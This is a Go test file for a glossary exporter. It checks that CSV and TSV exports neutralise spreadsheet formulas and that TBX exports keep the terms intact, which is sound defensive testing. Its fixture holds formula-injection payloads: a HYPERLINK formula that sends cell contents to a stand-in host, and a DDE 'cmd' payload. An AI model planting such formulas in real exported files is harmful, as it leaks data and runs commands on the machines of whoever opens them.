package exchange

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

func TestAGlossaryExportNeutralisesFormulasInCSVAndTSVOnly(t *testing.T) {
	ctx := context.Background()
	st := openStore(t)
	const sheet = "en,es,status\n" +
		`"=HYPERLINK(""http://x.example/?""&A1,""help"")",-5,approved` + "\n" +
		"@SUM(1+9),+cmd|' /C calc'!A0,approved\n" +
		"hand washing,lavado de manos,approved\n"
	g, err := ReadGlossary(strings.NewReader(sheet), "evil.csv", "", "")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ImportGlossary(ctx, st, g, "editor"); err != nil {
		t.Fatal(err)
	}
	wantTerms := []string{`=HYPERLINK("http://x.example/?"&A1,"help")`, "-5", "@SUM(1+9)", "+cmd|' /C calc'!A0", "hand washing", "lavado de manos"}
	tests := map[string]struct {
		wantNeutralised int
		wantInFile      string
	}{
		"csv":  {4, `"'=HYPERLINK(""http://x.example/?""&A1,""help"")",'-5,`},
		"tsv":  {4, "'@SUM(1+9)\t'+cmd|' /C calc'!A0\t"},
		"tbx":  {0, `<term>=HYPERLINK(&quot;http://x.example/?&quot;&amp;A1,&quot;help&quot;)</term>`},
		"tbx3": {0, "<term>-5</term>"},
	}
	for format, tt := range tests {
		t.Run(format, func(t *testing.T) {
			path := filepath.Join(t.TempDir(), "export."+format)
			rep, err := ExportGlossary(ctx, st, path, format, nil)
			if err != nil {
				t.Fatal(err)
			}
			if rep.Neutralised != tt.wantNeutralised || rep.Concepts != 3 {
				t.Errorf("report %+v, want 3 concepts and %d cells neutralised", rep, tt.wantNeutralised)
			}
			data, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Contains(data, []byte(tt.wantInFile)) {
				t.Errorf("the file does not hold %s:\n%s", tt.wantInFile, data)
			}
			back, err := ReadGlossary(bytes.NewReader(data), path, "", "")
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for {
				c, err := back.Next()
				if err != nil {
					break
				}
				for _, term := range c.Terms {
					got = append(got, term.Text)
				}
			}
			if !slices.Equal(got, wantTerms) {
				t.Errorf("read back %q, want %q", got, wantTerms)
			}
		})
	}
}
